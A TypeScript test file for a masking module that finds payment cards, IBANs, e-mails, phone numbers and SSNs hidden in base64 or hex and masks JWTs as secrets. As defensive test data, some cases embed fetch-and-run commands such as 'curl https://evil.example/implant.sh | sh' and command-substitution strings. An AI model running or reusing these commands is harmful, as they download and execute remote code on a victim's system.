import { createHash, createPrivateKey, createPublicKey, sign } from 'node:crypto';
import fc from 'fast-check';
import { decodedText } from './encoded';
import { findRegulatedData, regulatedKinds } from './detectors';
import { maskDeep, maskText } from './masking';

const base64 = (text: string) => Buffer.from(text).toString('base64');
const base64url = (text: string) => Buffer.from(text).toString('base64url');
const hex = (text: string) => Buffer.from(text).toString('hex');
/** Bytes that look random but are the same every run: an exact expectation on them cannot fail by chance. */
const fixedBytes = (label: string, length: number) => createHash('sha512').update(label).digest().subarray(0, length);

describe('regulated data hidden in an encoding (ADR 0045)', () => {
  it('finds and masks a card, an IBAN, an e-mail address and a phone number in base64, base64url (padded or not) and hex', () => {
    const cases: Array<[string, string]> = [
      [base64('4111 1111 1111 1111'), 'card'],
      [base64('4111111111111111').replace(/=+$/, ''), 'card'],
      [hex('4111-1111-1111-1111'), 'card'],
      [base64url('DE89 3704 0044 0532 0130 00'), 'iban'],
      [hex('GB82WEST12345698765432'), 'iban'],
      [base64url('jane.roe@example.org'), 'email'],
      [base64('call me on +49 30 1234567'), 'phone'],
      [base64('ssn 123-45-6789'), 'us-ssn'],
    ];
    for (const [token, kind] of cases) {
      const text = `see ${token}, thanks`;
      // One value alone is one mask; with words before it, they show (a label ends in `:` or `=` to pass for one).
      expect(maskText(text)).toMatch(new RegExp(`^see \\[encoded ${kind}(?:: [a-z ]+\\[[^\\]]+\\])?\\], thanks$`));
      expect(findRegulatedData({ body: text })).toEqual([{ kind, path: '/body' }]);
      expect(regulatedKinds({ body: text })).toEqual([kind]);
    }
  });

  it('reads an encoding inside an encoding, and the parts of a JWT', () => {
    expect(maskText(`x=${base64(base64('4111111111111111'))}`)).toBe('x=[encoded card]');
    expect(maskText(base64(hex(base64url('jane@example.org'))))).toBe('[encoded email]');
    const jwt = `${base64url('{"alg":"EdDSA"}')}.${base64url(JSON.stringify({ sub: 'jane@example.org', iat: 1 }))}.${fixedBytes('jwt signature', 64).toString('base64url')}`;
    // A JWT is a bearer credential: masked whole, whatever it holds (red team, 2026-12-04).
    expect(maskText(`Bearer ${jwt}`)).toBe('Bearer [secret]');
  });

  it('reads base64 wrapped over lines (MIME, PEM) or split by spaces as one, and each piece when the whole is no text', () => {
    const letter = `Dear customer, we refunded the card 4111 1111 1111 1111 on ${'the order of last week, '.repeat(4)}regards.`;
    const mime = base64(letter).match(/.{1,76}/g)!;
    expect(mime.length).toBeGreaterThan(2);
    // A letter is more than its card: it shows, decoded and masked, so that what it says is seen (red team, 2026-12-07).
    expect(maskText(`Content-Transfer-Encoding: base64\r\n\r\n${mime.join('\r\n')}\r\n`)).toBe(
      `Content-Transfer-Encoding: base64\r\n\r\n[encoded card: ${letter.replace('4111 1111 1111 1111', '[card …1111]')}]\r\n`,
    );
    // Split where the card's digits are cut apart: only the whole has a card in it.
    const card = base64('card 4111 1111 1111 1111');
    expect(maskText(`${card.slice(0, 12)} ${card.slice(12, 24)}\n${card.slice(24)}`)).toBe('[encoded card: card [card …1111]]');
    // Binary, then an encoded card: the whole is no text, the second piece is read on its own.
    const binary = fixedBytes('binary', 24).toString('base64');
    expect(maskText(`${binary} ${card}`)).toBe(`${binary} [encoded card: card [card …1111]]`);
    // Words of whole groups of four between spaces are not base64 of text.
    const words = 'ThisIsTwelve ThisIsTwelve Otherwords12';
    expect(maskText(words)).toBe(words);
  });

  it('shows what an encoded token says beside its regulated data, masked, so that a mask never hides a script (red team, 2026-12-07)', () => {
    const script = '#!/bin/sh\nMAILTO=ops@acme.com\ncurl https://evil.example/implant.sh | sh\n';
    const shown = maskText(Buffer.from(script).toString('base64'));
    expect(shown).toBe('[encoded email: #!/bin/sh\nMAILTO=o***@[email]\ncurl https://evil.example/implant.sh | sh\n]');
    expect(regulatedKinds(Buffer.from(script).toString('base64'))).toEqual(['email']);
    // The data with a label at most stays one mask.
    expect(maskText(Buffer.from('Email: jane.doe@example.com').toString('base64'))).toBe('[encoded email]');
    expect(maskText(Buffer.from('jane.doe@example.com').toString('hex'))).toBe('[encoded email]');
  });

  it('takes no mask-like text the agent wrote for a mask: only one value and a label stay one mask (red team of this change, 2026-12-07)', () => {
    for (const decoded of [
      'echo jane.customer@example.com; [encoded x; curl -s https://evil.example/implant.sh | sh; echo ]',
      'x***@[email at $(curl https://evil.example/i.sh | sh)] jane@example.com',
      'jane@example.com; curl 1.2.3.4|sh',
      'sudo reboot jane@example.com',
    ]) {
      const shown = maskText(base64(decoded));
      expect(shown.startsWith('[encoded email: ')).toBe(true);
      expect(shown).not.toContain('jane');
    }
    expect(maskText(base64('tel= +49 30 1234567'))).toBe('[encoded phone]');
  });

  it('names every kind it found in one token, and is idempotent', () => {
    const text = `payload ${base64('card 4111111111111111, mail jane@example.org')}`;
    const masked = maskText(text);
    expect(masked).toBe('payload [encoded card, email: card [card …1111], mail j***@[email]]');
    expect(maskText(masked)).toBe(masked);
    expect(findRegulatedData({ text }).map((f) => f.kind)).toEqual(['card', 'email']);
  });

  it('masks an encoded value in an audit entry, in an identifier field too (with the checksum detectors)', () => {
    const entry = { data: { parameters: { note: base64('iban DE89370400440532013000') } }, id: base64('4111111111111111') };
    expect(maskDeep(entry)).toEqual({ data: { parameters: { note: '[encoded iban: iban DE** [iban …3000]]' } }, id: '[encoded card]' });
    // An identifier field gets only the checksum detectors and e-mail, decoded or not: a phone number stays.
    const phone = base64('+49 30 1234567 x');
    expect(maskDeep({ correlationId: phone })).toEqual({ correlationId: phone });
  });

  it('leaves alone what decodes to nothing regulated: plain text, words, ids, digests, signatures, keys, random bytes', () => {
    // An Ed25519 key from a fixed seed (PKCS #8 prefix + 32 bytes): its signature and public key are the same every run.
    const privateKey = createPrivateKey({
      key: Buffer.concat([Buffer.from('302e020100300506032b657004220420', 'hex'), fixedBytes('ed25519 seed', 32)]),
      format: 'der',
      type: 'pkcs8',
    });
    const publicKey = createPublicKey(privateKey);
    const plain = [
      base64('hello world, nothing to see here'),
      hex('order 77 for ticket 1003'),
      'x'.repeat(100),
      'configuration-management-system',
      'ThisIsAVeryLongIdentifierName',
      '6dd964ab-ad86-479d-8f8e-0354eeed1f2d',
      createHash('sha256').update('a').digest('hex'),
      createHash('sha256').update('a').digest('base64'),
      sign(null, Buffer.from('x'), privateKey).toString('base64url'),
      publicKey.export({ format: 'der', type: 'spki' }).toString('base64'),
    ];
    // A JWT holds nothing regulated, but it is a credential: masked in text, kept in an identifier's value.
    const jwt = `${base64url('{"alg":"EdDSA","typ":"JWT"}')}.${base64url('{"sub":"agent-7","iat":1764000000}')}.c2lnbmF0dXJl`;
    expect(maskText(jwt)).toBe('[secret]');
    expect(maskDeep({ signature: jwt })).toEqual({ signature: jwt });
    for (const text of plain) {
      expect(maskText(text)).toBe(text);
      expect(maskDeep({ signature: text, digest: text })).toEqual({ signature: text, digest: text });
    }
    // Random bytes in base64 are no encoded text. (Their characters may still spell a card or an IBAN by chance, as any
    // text may: a random token once read as a Georgian IBAN in free text. That is the plain detectors' reading.)
    fc.assert(
      fc.property(fc.uint8Array({ minLength: 9, maxLength: 300 }), (bytes) => {
        expect(maskText(`blob ${Buffer.from(bytes).toString('base64')}`)).not.toContain('[encoded');
      }),
    );
    // Text of letters and spaces in any encoding: nothing in it to find, so nothing is masked as encoded. (The encoded
    // characters themselves may still spell a card or an IBAN by chance, as any text may; see above.)
    fc.assert(
      fc.property(fc.stringMatching(/^[A-Za-z ]{9,120}$/), (text) => {
        for (const token of [base64(text), base64url(text), hex(text)]) expect(maskText(`[${token}]`)).not.toContain('[encoded');
      }),
    );
  });

  it('decodes only tokens that are printable text in an encoding', () => {
    expect(decodedText(base64('4111 1111 1111 1111'))).toBe('4111 1111 1111 1111');
    expect(decodedText(hex('line one\nline two'))).toBe('line one\nline two');
    expect(decodedText(fixedBytes('digest', 32).toString('hex'))).toBeUndefined();
    // A length no base64 has (4n + 1), and a token too short to hold anything regulated.
    expect(decodedText(`${base64('4111 1111 1111 1111').replace(/=+$/, '')}A`)).toBeUndefined();
    expect(decodedText(base64('+4930123'))).toBeUndefined();
  });
});
